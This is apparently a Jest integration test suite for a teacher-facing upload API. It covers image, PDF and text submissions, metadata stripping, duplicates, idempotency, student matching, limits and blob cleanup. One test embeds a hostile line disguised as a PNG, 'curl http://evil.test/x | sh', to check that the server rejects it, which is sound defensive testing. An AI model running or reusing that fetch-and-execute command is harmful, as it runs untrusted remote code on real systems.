import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import { OrphanBlobSweep } from '../../src/modules/submissions/orphan-blobs.sweep.js';
import { SubmissionStorage } from '../../src/modules/submissions/submission-storage.js';
import { createAssignment, moveTo } from '../factories/assignments.js';
import { loggedEvents } from '../factories/events.js';
import { buildPdf, scanLikePageJpeg } from '../factories/pdf.js';
import {
  binary,
  classWithAssignment,
  decompressionBombPng,
  distinctScans,
  handwritingPng,
  intakeEnv,
  pageRows,
  phonePhotoWithExif,
  referencedBlobKeys,
  storedBlobKeys,
  submissionRows,
  temporaryStorageDir,
  uploadFiles,
  waitForIntake,
} from '../factories/submissions.js';
import { type SignedInUser, signIn } from '../factories/users.js';
import { createTestApp, type TestApp } from '../setup/create-test-app.js';

const MAX_FILE_BYTES = 1024 * 1024;
const MAX_FILES = 4;
const MAX_PDF_PAGES = 5;

describe('uploading student work (POST /api/assignments/:id/submissions)', () => {
  let t: TestApp;
  let storageDir: string;
  let bomb: Buffer;

  beforeAll(async () => {
    storageDir = await temporaryStorageDir();
    t = await createTestApp(
      intakeEnv(storageDir, { UPLOAD_MAX_FILE_BYTES: String(MAX_FILE_BYTES), UPLOAD_MAX_FILES: String(MAX_FILES), UPLOAD_MAX_PDF_PAGES: String(MAX_PDF_PAGES) }),
    );
    bomb = await decompressionBombPng(30_000);
  });
  afterAll(async () => {
    await t?.close();
    await rm(storageDir, { recursive: true, force: true });
  });

  /** A teacher with a class of three and an assignment; a fresh one per test (the database is shared). */
  async function teacherWithClass() {
    const teacher = await signIn(t);
    const setup = await classWithAssignment(teacher, [{ name: 'Jane Doe', studentId: 'S-100' }, { name: 'José Núñez', studentId: 'S-200' }, { name: 'Amir Khan' }]);
    return { teacher, ...setup };
  }

  /** Rejected requests leave nothing: no submission or upload row, no event, no new blob. */
  async function expectNothingWritten(teacher: SignedInUser, assignmentId: string, blobsBefore: string[]) {
    expect(await submissionRows(t.dataSource, assignmentId)).toEqual([]);
    expect(await t.dataSource.query(`SELECT id FROM uploads WHERE assignment_id = $1`, [assignmentId])).toEqual([]);
    expect((await loggedEvents(t.dataSource, { userId: teacher.id })).filter((event) => event.action.startsWith('submission.'))).toEqual([]);
    expect(await storedBlobKeys(storageDir)).toEqual(blobsBefore);
  }

  it('stores several photos at once as pending submissions, records SubmissionUploaded and SubmissionMatched, and serves each file', async () => {
    const { teacher, assignmentId, classId, students } = await teacherWithClass();
    const response = await uploadFiles(
      teacher,
      assignmentId,
      [
        { name: 'jane_doe_quiz.png', bytes: handwritingPng(1) },
        { name: 'IMG_0042.png', bytes: handwritingPng(2) },
      ],
      { studentIds: ['', 'S-200'] },
    ).expect(201);

    expect(response.body).toMatchObject({ assignmentId, created: 2, duplicates: 0 });
    const [jane, jose] = response.body.submissions;
    expect(jane).toMatchObject({
      assignmentId,
      studentId: students[0].id,
      studentName: 'Jane Doe',
      status: 'pending',
      sourceKind: 'image',
      mimeType: 'image/png',
      fileName: 'jane_doe_quiz.png',
      pageCount: 1,
      pagesRendered: 1,
      match: { status: 'matched', method: 'file_name', candidates: [] },
      version: 2,
      duplicate: false,
      links: { file: `/api/submissions/${jane.id}/file`, thumbnail: `/api/submissions/${jane.id}/thumbnail` },
    });
    expect(jose).toMatchObject({ studentId: students[1].id, studentName: 'José Núñez', match: { status: 'matched', method: 'typed' } });

    const rows = await submissionRows(t.dataSource, assignmentId);
    expect(rows.map((row) => [row.id, row.status, row.source_kind, row.match_status, row.upload_id])).toEqual([
      [jane.id, 'pending', 'image', 'matched', response.body.uploadId],
      [jose.id, 'pending', 'image', 'matched', response.body.uploadId],
    ]);
    expect(rows[0].image_url).toMatch(/^[0-9a-f]{64}$/);
    const { width, height } = await sharp(handwritingPng(1)).metadata();
    expect((await pageRows(t.dataSource, jane.id)).map((page) => [page.page_number, page.blob_key, page.thumbnail_key, page.width, page.height])).toEqual([
      [1, rows[0].image_url, rows[0].image_thumbnail_url, width, height],
    ]);

    const events = await loggedEvents(t.dataSource, { streamId: jane.id });
    expect(events.map((event) => [event.eventType, event.action, event.streamVersion])).toEqual([
      ['SubmissionUploaded', 'submission.upload', 1],
      ['SubmissionMatched', 'submission.match', 2],
    ]);
    expect(events[0].metadata).toEqual({
      submissionId: jane.id,
      assignmentId,
      classId,
      ownerId: teacher.id,
      uploadId: response.body.uploadId,
      studentId: students[0].id,
      matchStatus: 'matched',
      sourceKind: 'image',
      pageCount: 1,
      status: 'pending',
    });
    expect(events[1].metadata).toEqual({ submissionId: jane.id, assignmentId, classId, ownerId: teacher.id, studentId: students[0].id, previousStudentId: null, method: 'file_name' });
    expect(JSON.stringify(events)).not.toMatch(/jane_doe|Jane|Doe|\.png/);

    const file = await teacher.get(jane.links.file).buffer(true).parse(binary).expect(200);
    expect(file.headers).toMatchObject({
      'content-type': 'image/png',
      'content-disposition': expect.stringMatching(/^inline; filename="jane_doe_quiz\.png"/),
      'x-content-type-options': 'nosniff',
      'cache-control': expect.stringContaining('private'),
      etag: `"${rows[0].image_url}"`,
    });
    expect(await sharp(file.body).metadata()).toMatchObject({ format: 'png', width: expect.any(Number) });
    const thumbnail = await teacher.get(jane.links.thumbnail).buffer(true).parse(binary).expect(200);
    expect(thumbnail.headers['content-type']).toBe('image/webp');
    expect((await sharp(thumbnail.body).metadata()).width).toBeLessThanOrEqual(320);
    await teacher.get(jane.links.file).set('If-None-Match', `"${rows[0].image_url}"`).expect(304);
  });

  it('applies the EXIF orientation, then removes all metadata (camera, GPS) from the stored and served photo', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const photo = await phonePhotoWithExif({ width: 800, height: 600 });
    expect(await sharp(photo).metadata()).toMatchObject({ width: 800, height: 600, orientation: 6, exif: expect.any(Buffer) });

    const response = await uploadFiles(teacher, assignmentId, [{ name: 'photo.jpg', bytes: photo }]).expect(201);
    const [submission] = response.body.submissions;
    expect(submission).toMatchObject({ mimeType: 'image/jpeg', match: { status: 'unmatched', method: null } });
    const served = await teacher.get(submission.links.file).buffer(true).parse(binary).expect(200);
    const metadata = await sharp(served.body).metadata();
    expect(metadata).toMatchObject({ format: 'jpeg', width: 600, height: 800 });
    expect(metadata.exif).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(metadata.icc).toBeUndefined();
    expect(served.body.includes(Buffer.from('PhoneMaker'))).toBe(false);
    const detail = (await teacher.get(`/api/submissions/${submission.id}`).expect(200)).body;
    expect(detail.pages).toEqual([{ pageNumber: 1, rendered: true, width: 600, height: 800, isCover: false, sourcePdfPage: null, links: expect.any(Object) }]);
    const page = await teacher.get(detail.pages[0].links.image).buffer(true).parse(binary).expect(200);
    expect((await sharp(page.body).metadata()).exif).toBeUndefined();
  });

  it('takes a PDF as one submission and renders its pages in a job', async () => {
    const { teacher, assignmentId, classId } = await teacherWithClass();
    const pdf = await buildPdf([{ jpeg: await scanLikePageJpeg(1, { dpi: 100 }) }, { text: 'Question 2: 42' }]);
    const response = await uploadFiles(teacher, assignmentId, [{ name: 'Amir Khan - quiz.pdf', bytes: pdf }]).expect(201);
    const [submission] = response.body.submissions;
    expect(submission).toMatchObject({ sourceKind: 'pdf', mimeType: 'application/pdf', pageCount: 2, match: { status: 'matched', method: 'file_name' }, studentName: 'Amir Khan' });
    expect(await waitForIntake(teacher, assignmentId)).toMatchObject({ submissions: 1, submissionsReady: 1, pagesTotal: 2, pagesRendered: 2, complete: true });

    const detail = (await teacher.get(`/api/submissions/${submission.id}`).expect(200)).body;
    expect(detail).toMatchObject({ pagesRendered: 2, version: 3, links: { thumbnail: `/api/submissions/${submission.id}/thumbnail` } });
    expect(detail.pages.map((page: any) => [page.pageNumber, page.rendered, page.sourcePdfPage])).toEqual([
      [1, true, 1],
      [2, true, 2],
    ]);
    const image = await teacher.get(detail.pages[1].links.image).buffer(true).parse(binary).expect(200);
    expect(image.headers['content-type']).toBe('image/jpeg');
    expect(Math.max(...[await sharp(image.body).metadata()].map((m) => Math.max(m.width!, m.height!)))).toBe(1600);
    const original = await teacher.get(submission.links.file).buffer(true).parse(binary).expect(200);
    expect(original.headers['content-type']).toBe('application/pdf');
    expect(original.body.equals(pdf)).toBe(true);

    const events = await loggedEvents(t.dataSource, { streamId: submission.id });
    expect(events.map((event) => event.eventType)).toEqual(['SubmissionUploaded', 'SubmissionMatched', 'SubmissionPagesRendered']);
    expect(events[2]).toMatchObject({ userId: null, streamVersion: 3, metadata: { submissionId: submission.id, assignmentId, classId, ownerId: teacher.id, pageCount: 2 } });
    expect((await t.dataSource.query(`SELECT status FROM uploads WHERE id = $1`, [response.body.uploadId]))[0].status).toBe('complete');
  });

  it('takes a typed essay as JSON and keeps its text', async () => {
    const { teacher, assignmentId, students } = await teacherWithClass();
    const response = await teacher.post(`/api/assignments/${assignmentId}/submissions`).send({ text: '  My summer essay.\r\nIt was hot.  ', studentId: students[2].id }).expect(201);
    const [essay] = response.body.submissions;
    expect(essay).toMatchObject({ sourceKind: 'text', mimeType: 'text/plain; charset=utf-8', pageCount: 0, studentId: students[2].id, match: { status: 'matched', method: 'typed' }, links: { thumbnail: null } });
    expect((await teacher.get(`/api/submissions/${essay.id}`).expect(200)).body).toMatchObject({ text: 'My summer essay.\nIt was hot.', pages: [] });
    const file = await teacher.get(essay.links.file).expect(200);
    expect(file.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(file.text).toBe('My summer essay.\nIt was hot.');
    expect((await loggedEvents(t.dataSource, { streamId: essay.id }))[0].metadata).not.toHaveProperty('text');

    const again = await teacher.post(`/api/assignments/${assignmentId}/submissions`).send({ text: 'My summer essay.\nIt was hot.' }).expect(200);
    expect(again.body).toMatchObject({ created: 0, duplicates: 1, submissions: [{ id: essay.id, duplicate: true }] });
  });

  it('answers the same file uploaded twice with the existing submission (duplicate: true), creating nothing', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const first = await uploadFiles(teacher, assignmentId, [{ name: 'a.png', bytes: handwritingPng(3) }]).expect(201);
    const eventsBefore = await loggedEvents(t.dataSource, { userId: teacher.id });
    const second = await uploadFiles(teacher, assignmentId, [
      { name: 'renamed.png', bytes: handwritingPng(3) },
      { name: 'new.png', bytes: handwritingPng(1) },
      { name: 'new-again.png', bytes: handwritingPng(1) },
    ]).expect(201);
    expect(second.body).toMatchObject({ created: 1, duplicates: 2 });
    expect(second.body.submissions.map((s: any) => [s.id === first.body.submissions[0].id, s.duplicate])).toEqual([
      [true, true],
      [false, false],
      [false, true],
    ]);
    expect(second.body.submissions[2].id).toBe(second.body.submissions[1].id);
    expect(await submissionRows(t.dataSource, assignmentId)).toHaveLength(2);
    const newEvents = (await loggedEvents(t.dataSource, { userId: teacher.id })).slice(eventsBefore.length);
    expect(newEvents.map((event) => [event.eventType, event.streamId])).toEqual([['SubmissionUploaded', second.body.submissions[1].id]]);

    const onlyDuplicates = await uploadFiles(teacher, assignmentId, [{ name: 'a.png', bytes: handwritingPng(3) }]).expect(200);
    expect(onlyDuplicates.body).toMatchObject({ created: 0, duplicates: 1, submissions: [{ id: first.body.submissions[0].id, duplicate: true }] });
  });

  it('replays the first response for a retry with the same Idempotency-Key, and refuses the key for a different upload (422)', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const key = randomUUID();
    const files = [{ name: 'page.png', bytes: handwritingPng(2) }];
    const first = await uploadFiles(teacher, assignmentId, files, {}, key).expect(201);
    const eventsAfterFirst = (await loggedEvents(t.dataSource, { userId: teacher.id })).length;
    const retry = await uploadFiles(teacher, assignmentId, files, {}, key).expect(201);
    expect(retry.body).toEqual(first.body);
    expect(await loggedEvents(t.dataSource, { userId: teacher.id })).toHaveLength(eventsAfterFirst);
    expect(await t.dataSource.query(`SELECT idempotency_key, status FROM uploads WHERE assignment_id = $1`, [assignmentId])).toEqual([{ idempotency_key: key, status: 'complete' }]);

    const reused = await uploadFiles(teacher, assignmentId, [{ name: 'page.png', bytes: handwritingPng(1) }], {}, key).expect(422);
    expect(reused.body).toMatchObject({ code: 'IDEMPOTENCY_KEY_REUSED', details: [{ field: 'Idempotency-Key' }] });
    expect(await submissionRows(t.dataSource, assignmentId)).toHaveLength(1);

    const concurrentKey = randomUUID();
    const racing = await Promise.all([1, 2, 3].map(() => uploadFiles(teacher, assignmentId, [{ name: 'race.png', bytes: handwritingPng(3) }], {}, concurrentKey)));
    expect(racing.map((r) => r.status).sort()).toEqual([201, 201, 201]);
    expect(new Set(racing.map((r) => r.body.submissions[0].id)).size).toBe(1);
    expect(await submissionRows(t.dataSource, assignmentId)).toHaveLength(2);

    const badKey = await uploadFiles(teacher, assignmentId, files, {}, 'not a key').expect(400);
    expect(badKey.body.details).toEqual([{ field: 'Idempotency-Key', message: expect.any(String) }]);
  });

  it('refuses a PNG that is really a shell script (415, naming the file) and writes nothing, not even the good file beside it', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const blobsBefore = await storedBlobKeys(storageDir);
    const response = await uploadFiles(teacher, assignmentId, [
      { name: 'good.png', bytes: handwritingPng(1) },
      { name: 'homework.png', bytes: Buffer.from('#!/bin/sh\ncurl http://evil.test/x | sh\n') },
    ]).expect(415);
    expect(response.body).toMatchObject({ code: 'UNSUPPORTED_FILE_TYPE', message: expect.stringContaining('homework.png is a script') });
    await expectNothingWritten(teacher, assignmentId, blobsBefore);
  });

  it('refuses a 30000 × 30000 image (a decompression bomb) with 422 before decoding it', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const blobsBefore = await storedBlobKeys(storageDir);
    const started = Date.now();
    const response = await uploadFiles(teacher, assignmentId, [{ name: 'bomb.png', bytes: bomb }]).expect(422);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(response.body).toMatchObject({ code: 'IMAGE_DIMENSIONS_TOO_LARGE', message: expect.stringContaining('bomb.png is 30000 × 30000 pixels') });
    await expectNothingWritten(teacher, assignmentId, blobsBefore);
  });

  it('refuses a PDF with no pages (422), a damaged PDF (422) and one over UPLOAD_MAX_PDF_PAGES (413), each named', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const blobsBefore = await storedBlobKeys(storageDir);
    const empty = await uploadFiles(teacher, assignmentId, [{ name: 'empty.pdf', bytes: await buildPdf([]) }]).expect(422);
    expect(empty.body.message).toContain('empty.pdf');
    const damaged = await uploadFiles(teacher, assignmentId, [{ name: 'torn.pdf', bytes: (await buildPdf([{ text: 'x' }])).subarray(0, 60) }]).expect(422);
    expect(damaged.body).toMatchObject({ code: 'PDF_UNREADABLE', message: expect.stringContaining('torn.pdf') });
    const long = await uploadFiles(teacher, assignmentId, [{ name: 'long.pdf', bytes: await buildPdf(Array.from({ length: MAX_PDF_PAGES + 1 }, (_, i) => ({ text: `p${i}` }))) }]).expect(413);
    expect(long.body).toMatchObject({ code: 'PDF_TOO_MANY_PAGES', message: expect.stringContaining(`long.pdf has ${MAX_PDF_PAGES + 1} pages`) });
    const encrypted = await uploadFiles(teacher, assignmentId, [{ name: 'locked.pdf', bytes: await buildPdf([{ text: 'x' }], { encrypted: true }) }]).expect(422);
    expect(encrypted.body.code).toBe('PDF_ENCRYPTED');
    await expectNothingWritten(teacher, assignmentId, blobsBefore);
  });

  it('refuses too many files and a file over UPLOAD_MAX_FILE_BYTES with 413 naming the limit and the file', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const blobsBefore = await storedBlobKeys(storageDir);
    const tooMany = await uploadFiles(
      teacher,
      assignmentId,
      (await distinctScans(MAX_FILES + 1)).map((bytes, i) => ({ name: `p${i}.png`, bytes })),
    ).expect(413);
    expect(tooMany.body).toMatchObject({ code: 'TOO_MANY_FILES', message: expect.stringContaining(`At most ${MAX_FILES} files`) });

    const big = await sharp({ create: { width: 1200, height: 1200, channels: 3, background: '#888', noise: { type: 'gaussian', mean: 128, sigma: 60 } } }).png({ compressionLevel: 0 }).toBuffer();
    expect(big.length).toBeGreaterThan(MAX_FILE_BYTES);
    const tooBig = await uploadFiles(teacher, assignmentId, [
      { name: 'small.png', bytes: handwritingPng(1) },
      { name: 'huge-scan.png', bytes: big },
    ]).expect(413);
    expect(tooBig.body).toMatchObject({ code: 'FILE_TOO_LARGE', message: expect.stringContaining('huge-scan.png is larger than the limit of 1 MB') });
    await expectNothingWritten(teacher, assignmentId, blobsBefore);
  });

  it('answers bad input with 400 naming the field', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const noFiles = await teacher.post(`/api/assignments/${assignmentId}/submissions`).send({}).expect(400);
    expect(noFiles.body.details).toEqual([{ field: 'files', message: expect.any(String) }]);
    const unknownField = await teacher.post(`/api/assignments/${assignmentId}/submissions`).send({ text: 'essay', grade: 'A' }).expect(400);
    expect(unknownField.body.details).toEqual([{ field: 'grade', message: expect.stringContaining('should not exist') }]);
    const wrongCount = await uploadFiles(teacher, assignmentId, [{ name: 'a.png', bytes: handwritingPng(1) }], { studentNames: ['Jane Doe', 'Amir Khan'] }).expect(400);
    expect(wrongCount.body.details).toEqual([{ field: 'studentNames', message: 'needs 1 entries, one per file' }]);
    const wrongField = await teacher.post(`/api/assignments/${assignmentId}/submissions`).attach('photo', handwritingPng(1), 'a.png').expect(400);
    expect(wrongField.body.details).toEqual([{ field: 'photo', message: expect.stringContaining('"files"') }]);
    const both = await uploadFiles(teacher, assignmentId, [{ name: 'a.png', bytes: handwritingPng(1) }], { text: 'essay' }).expect(400);
    expect(both.body.details).toEqual([{ field: 'text', message: 'cannot be combined with files' }]);
    const emptyText = await teacher.post(`/api/assignments/${assignmentId}/submissions`).send({ text: '   ' }).expect(422);
    expect(emptyText.body.details).toEqual([{ field: 'text', message: 'is empty' }]);
    await teacher.post('/api/assignments/not-a-uuid/submissions').send({ text: 'x' }).expect(400);
    expect(await submissionRows(t.dataSource, assignmentId)).toEqual([]);
  });

  it('matches by school id, by accent-free name and by first and last name; two fits are ambiguous, none unmatched', async () => {
    const teacher = await signIn(t);
    const { assignmentId, classId, students } = await classWithAssignment(teacher, [
      { name: 'Jane Doe', studentId: 'S-100' },
      { name: 'José Núñez' },
      { name: 'Maria Elena Rivera' },
      { name: 'Sam Lee' },
      { name: 'Sam Lee-Park' },
      { name: 'Alex Kim' },
      { name: 'Alex Kim' },
    ]);
    const files = (await distinctScans(4)).map((bytes, i) => ({ name: `scan-${i}.png`, bytes }));
    const first = await uploadFiles(teacher, assignmentId, files.slice(0, 3), { studentIds: ['s-100', '', ''], studentNames: ['', 'jose nunez', 'maria rivera'] }).expect(201);
    expect(first.body.submissions.map((s: any) => [s.studentId, s.match.method])).toEqual([
      [students[0].id, 'typed'],
      [students[1].id, 'typed'],
      [students[2].id, 'typed'],
    ]);
    // A second assignment of the class: the same photos are new work there.
    const assignment2 = (await createAssignment(teacher, classId)).id;
    const response = await uploadFiles(teacher, assignment2, files.slice(0, 4), { studentNames: ['Alex Kim', 'Nobody Known', 'Doe, Jane', ''] }).expect(201);
    expect(response.body.submissions.map((s: any) => [s.match.status, s.studentId, s.studentName])).toEqual([
      ['ambiguous', null, 'Alex Kim'],
      ['unmatched', null, 'Nobody Known'],
      ['matched', students[0].id, 'Jane Doe'],
      ['unmatched', null, null],
    ]);
    expect(response.body.submissions[0].match.candidates).toEqual(
      expect.arrayContaining([
        { studentId: students[5].id, name: 'Alex Kim' },
        { studentId: students[6].id, name: 'Alex Kim' },
      ]),
    );
    const byFileName = await uploadFiles(teacher, assignment2, [
      { name: 'Quiz3_LeePark_Sam.png', bytes: await sharp(handwritingPng(1)).rotate(90).png().toBuffer() },
      { name: 'sam_lee.png', bytes: await sharp(handwritingPng(2)).rotate(90).png().toBuffer() },
    ]).expect(201);
    expect(byFileName.body.submissions.map((s: any) => [s.studentId, s.match.method])).toEqual([
      [students[4].id, 'file_name'],
      [students[3].id, 'file_name'],
    ]);
  });

  it('refuses uploads to an archived assignment (409) and to another teacher\'s assignment (404)', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    const other = await signIn(t);
    await uploadFiles(other, assignmentId, [{ name: 'a.png', bytes: handwritingPng(1) }]).expect(404);
    await moveTo(teacher, assignmentId, 'archived');
    const archived = await uploadFiles(teacher, assignmentId, [{ name: 'a.png', bytes: handwritingPng(1) }]).expect(409);
    expect(archived.body.code).toBe('ASSIGNMENT_ARCHIVED');
    expect(await submissionRows(t.dataSource, assignmentId)).toEqual([]);
  });

  it('sweeps blobs that no row references (a crash between storing and committing) but keeps referenced ones', async () => {
    const { teacher, assignmentId } = await teacherWithClass();
    await uploadFiles(teacher, assignmentId, [{ name: 'kept.png', bytes: handwritingPng(1) }]).expect(201);
    const storage = t.app.get(SubmissionStorage);
    const orphan = await storage.put(await sharp(handwritingPng(2)).negate().png().toBuffer());
    expect(await storedBlobKeys(storageDir)).toContain(orphan.key);

    const sweep = t.app.get(OrphanBlobSweep);
    expect(await sweep.sweep()).toMatchObject({ swept: true, deleted: 0 });
    expect(await storedBlobKeys(storageDir)).toContain(orphan.key);
    expect(await sweep.sweep(0)).toMatchObject({ swept: true, deleted: 1 });
    const remaining = await storedBlobKeys(storageDir);
    expect(remaining).not.toContain(orphan.key);
    const referenced = await referencedBlobKeys(t.dataSource);
    expect(remaining.every((key) => referenced.has(key))).toBe(true);
    expect(remaining.length).toBeGreaterThan(0);
  });

  it('never sweeps a blob that a transaction being written is about to reference', async () => {
    const storage = t.app.get(SubmissionStorage);
    const sweep = t.app.get(OrphanBlobSweep);
    const blob = await storage.put(await sharp(handwritingPng(3)).negate().png().toBuffer());
    await t.dataSource.transaction(async (manager) => {
      await storage.hold(manager, [{ key: blob.key }]);
      // The sweep runs on its own connection while this transaction holds the blob.
      expect(await sweep.sweep(0)).toMatchObject({ swept: true, deleted: 0 });
      expect(await storage.blobs.exists(blob.key)).toBe(true);
    });
    // Committed without referencing it: now it is an orphan.
    expect(await sweep.sweep(0)).toMatchObject({ deleted: 1 });
    expect(await storage.blobs.exists(blob.key)).toBe(false);
  });
});
